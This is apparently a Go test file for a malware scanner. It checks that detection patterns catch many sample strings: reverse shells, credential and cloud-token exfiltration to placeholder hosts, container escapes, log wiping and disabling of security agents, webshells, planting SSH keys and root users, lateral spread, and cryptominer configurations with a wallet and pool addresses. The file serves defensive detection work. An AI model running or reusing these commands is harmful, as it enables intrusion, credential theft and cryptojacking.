package scanners

import (
	"regexp"
	"testing"
)

// TestLiteralsMissNoMatch: a file goes to a pattern's regex only near one
// of its literals, which are matched as they are written, so a pattern
// whose regex folds case needs a literal for each spelling a user writes.
// Every sample here is matched by its pattern's regex alone; the matcher
// must find it too.
func TestLiteralsMissNoMatch(t *testing.T) {
	samples := map[string][]string{
		"miner-config": {`--cpu-max-threads-hint=75`, `--randomx-1gb-pages`, `{"algo": "KawPow"}`, `{"algo": "kawpow"}`, `--algo=ETHASH`, `--algo Ethash`, `--algo GhostRider`,
			`{"algorithm": "kHeavyHash"}`, `{"algo": "Autolykos2"}`, `{"algo": "AstroBWT"}`, `{"algo": "Argon2/chukwa"}`,
			`{"coin": "XMR"}`, `--coin=monero`, `{"algo": "rx/0"}`, `{"algo": "CryptoNight"}`},
		"attack-credential-upload": {`(cat /root/.bash_history; env) | nc 198.51.100.93 9001`, `nc 203.0.113.5 9000 < /etc/shadow`, `cat /root/.aws/credentials > /dev/tcp/203.0.113.5/443`, `requests.post(u, files={'f': open('/root/.kube/config', 'rb')})`, `cat /proc/*/environ | tr '\\0' '\\n' | grep -i key`, `curl -F "f=@$HOME/.aws/credentials" http://x/`, `CURL -d @/root/.docker/config.json http://x/`,
			`wget --post-file=/etc/shadow http://x/`, `curl -T ~/.kube/config ftp://x/`, `curl --data-binary @/var/run/secrets/kubernetes.io/serviceaccount/token http://x`},
		"attack-cloud-credentials": {`curl -sk -H "Authorization: Bearer $T" https://kubernetes.default.svc/api/v1/secrets`, `urlopen('http://169.254.169.254/latest/meta-data/iam/security-credentials/')`, `curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/`,
			`wget -qO- --header Metadata-Flavor:Google http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token`,
			`curl -H Metadata:true "http://169.254.169.254/metadata/identity/oauth2/token?resource=x"`},
		"attack-container-escape": {`echo "$host_path/cmd" > $d/release_agent`, `echo 1 > $d/x/notify_on_release`, `echo "|$host_path/cmd" > /proc/sys/kernel/core_pattern`, `mount /dev/sda1 /mnt`, `mount -t ext4 /dev/nvme0n1p1 /host`, `docker -H unix:///var/run/docker.sock run --rm -v /:/mnt alpine chroot /mnt sh`, `docker run --mount type=bind,source=/,target=/h alpine`, `{"command": ["nsenter", "--target", "1", "--mount", "sh"]}`, `nsenter --target 1 --mount --uts --ipc --net --pid -- sh`, `nsenter -m -u -i -n -p -t 1 sh`,
			`docker run --rm --privileged -v /:/mnt alpine`, `docker run -v /:/host --privileged -it busybox`, `chroot /host sh -c id`,
			`curl --unix-socket /var/run/docker.sock -X POST http://d/containers/create`},
		"attack-reverse-shell": {`exec 5<>/dev/tcp/203.0.113.77/443; cat <&5 | while read line; do $line 2>&5 >&5; done`, `sh <&5 >&5 2>&5`, `openssl s_client -quiet -connect h:443 | /bin/sh 2>&1 | openssl s_client -quiet -connect h:8443`, `s="/inet/tcp/0/203.0.113.77/4444"`, `bash -i >& /dev/tcp/203.0.113.9/4444 0>&1`, `sh -i 5<> /dev/tcp/x/1 0<&5`,
			`nc -e /bin/sh 203.0.113.9 4444`, `ncat 203.0.113.9 4444 -e /bin/bash`, `nc x 1 -c sh`,
			`rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.9 4444 >/tmp/f`,
			`socat exec:'bash -li',pty,stderr tcp:203.0.113.9:4444`, `socat TCP:x:1 EXEC:/bin/sh`,
			`python3 -c 'import socket,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("x",1));os.dup2(s.fileno(),0)'`,
			`perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(1,inet_aton("x")));exec("/bin/sh -i");'`,
			`php -r '$s=fsockopen("x",1);exec("/bin/sh -i <&3 >&3 2>&3");'`},
		"attack-impair-defences": {`rm -rf /var/log/*.log /var/log/journal/*`, `journalctl --vacuum-time=1s`, `: > /var/log/syslog`, `touch -r /usr/bin/ls /usr/local/bin/x`, `chattr +i /root/.ssh/authorized_keys`, `chattr -ia /etc/passwd /etc/shadow`, `chattr -R +i /var/spool/cron`,
			`echo > /var/log/wtmp`, `cat /dev/null > /var/log/btmp`, `rm -f /var/log/lastlog`, `truncate -s 0 /var/run/utmp`,
			`history -c`, `setenforce 0`, `ufw disable`, `auditctl -e 0`, `systemctl stop apparmor`, `service aegis stop`, `systemctl disable aliyun`,
			`rm -rf /usr/local/aegis`, `bash /usr/local/qcloud/stargate/admin/uninstall.sh`},
		"packer-upx":          {"\x7fELF\x02\x01\x01\x00\x00UPX!"},
		"attack-hide-process": {`( exec -a '[kworker/u8:2-events]' /usr/local/lib/w --quiet ) &`, `mount --bind /var/lib/.empty /proc/$pid`, `mount -o bind /tmp/e /proc/1234`},
		"attack-exec-downloaded": {`exec(urllib.request.urlopen("https://x/boot.py").read())`, `python3 -c "import urllib.request as u;exec(u.urlopen('http://x/s.py').read())"`,
			`exec(requests.get(u).text)`, `eval(await (await fetch(u)).text())`, `IEX (New-Object Net.WebClient).DownloadString('http://x/a')`, `iwr http://x/a | iex`},
		"miner-wallet": {`"user": "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A",`, `--url=pool.hashvault.pro:443 --user=44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A --tls`, `-o gulf.moneroocean.stream:10128 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A -p w1`},
		"attack-tunnel": {`healthd client 203.0.113.90:443 R:0.0.0.0:2222:127.0.0.1:22 R:socks`, `autossh -M 0 -f -N -R 2222:localhost:22 u@203.0.113.9`,
			`remote_port = 6022`, `HiddenServicePort 22 127.0.0.1:22`, `ngrok tcp 22`, `if ($l =~ /PRIVMSG #k1ns :!sh (.*)/) {`},
		"webshell-php-input":         {`<?php @eval(file_get_contents('php://input')); ?>`},
		"indirect-webshell-php":      {"$c = $_REQUEST['q'];\nif ($c) { echo shell_exec($c); }"},
		"indirect-webshell-py":       {"    cmd = request.args.get(\"c\", \"\")\n    return subprocess.check_output(cmd, shell=True)"},
		"guard-php-shell-escape":     {"$cmd = 'convert ' . escapeshellarg($f);"},
		"webshell-php-varfunc":       {"$k($_POST['c']);", "$k(base64_decode($_COOKIE['wp_sess']));"},
		"exec-download-run":          {`eval "$(printf '%s' "$X" | base64 -d)"`, `curl -so /var/tmp/mandb-update http://198.51.100.96/u && sh /var/tmp/mandb-update`},
		"attack-reverse-shell-lines": {"s = socket.create_connection((\"198.51.100.95\", 8443))\nfor fd in (0, 1, 2):\n    os.dup2(s.fileno(), fd)"},
		"attack-kill-rivals": {`ps aux | awk '{if($3>40.0) print $2}' | xargs -I % kill -9 %`,
			`netstat -anp | grep ':3333\|:4444' | awk '{print $7}' | awk -F'[/]' '{print $1}' | xargs -I % kill -9 %`,
			`ss -tnp | grep 203.0.113.7 | awk '{print $6}' | xargs kill -9`, `pkill -f xmrig`, `killall -9 minerd`,
			`ps -ef | grep -v grep | grep stratum | awk '{print $2}' | xargs kill -9`,
			`docker ps | grep "pocosow" | awk '{print $1}' | xargs -I % docker kill %`, `crontab -r`},
		"attack-miner-tuning": {`wrmsr -a 0x1a4 0xf`, `wrmsr -a 0xc0011020 0x0`, `modprobe msr allow_writes=on`,
			`echo on > /sys/module/msr/parameters/allow_writes`, `sysctl -w vm.nr_hugepages=1280`, `echo 1280 > /proc/sys/vm/nr_hugepages`,
			`echo 3 > /sys/devices/system/node/node0/hugepages/hugepages-1048576kB/nr_hugepages`},
		"attack-plant-access": {`echo "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC7 root@x" >> /root/.ssh/authorized_keys`,
			`echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMq x' | tee -a ~/.ssh/authorized_keys`,
			`curl -s http://203.0.113.9/k.pub >> /root/.ssh/authorized_keys`, `useradd -o -u 0 -g 0 -M -d /root -s /bin/bash sysadm`,
			`usermod -u 0 -o hilde`, `echo 'sysadm:x:0:0::/root:/bin/bash' >> /etc/passwd`},
		"attack-lateral-spread": {`masscan 10.0.0.0/8 -p2375,2376 --rate=10000`, `zgrab --port 10250 --senders 200`,
			`pnscan -t512 -R '6f 73 3a 4c 69 6e 75 78' -W '2a 31 0d 0a 24 34 0d 0a 69 6e 66 6f 0d 0a' $1 6379`,
			`nmap -p 2375 --open 172.17.0.0/16`, `docker -H tcp://$ip:2375 run -d --privileged -v /:/host alpine`,
			`curl -X POST http://$h:2375/v1.41/containers/create -d @c.json`, `curl -sk https://$node:10250/run/kube-system/p/c -d cmd=id`,
			`redis-cli -h $h config set dir /var/spool/cron/`, `redis-cli -h $h CONFIG SET dir /root/.ssh`,
			`ssh -oStrictHostKeyChecking=no -oBatchMode=yes $u@$h "(curl -fsSL http://x/i.sh || wget -qO- http://x/i.sh) | bash"`},
	}
	m, err := NewMatcher(DefaultPatterns(), 1<<20)
	if err != nil {
		t.Fatal(err)
	}
	found := 0
	for _, p := range DefaultPatterns() {
		re := regexp.MustCompile(p.Regex)
		for _, s := range samples[p.ID] {
			found++
			if !re.MatchString(s) {
				t.Fatalf("%s: the sample %q is not matched by the regex itself", p.ID, s)
			}
			ok := false
			for _, c := range m.Match("sample", []byte(s)) {
				ok = ok || c.PatternID == p.ID
			}
			if !ok {
				t.Errorf("%s: the regex matches %q but the matcher does not (no literal in it)", p.ID, s)
			}
		}
	}
	want := 0
	for _, ss := range samples {
		want += len(ss)
	}
	if found != want {
		t.Fatalf("tried %d samples, want %d: a pattern id changed", found, want)
	}
}
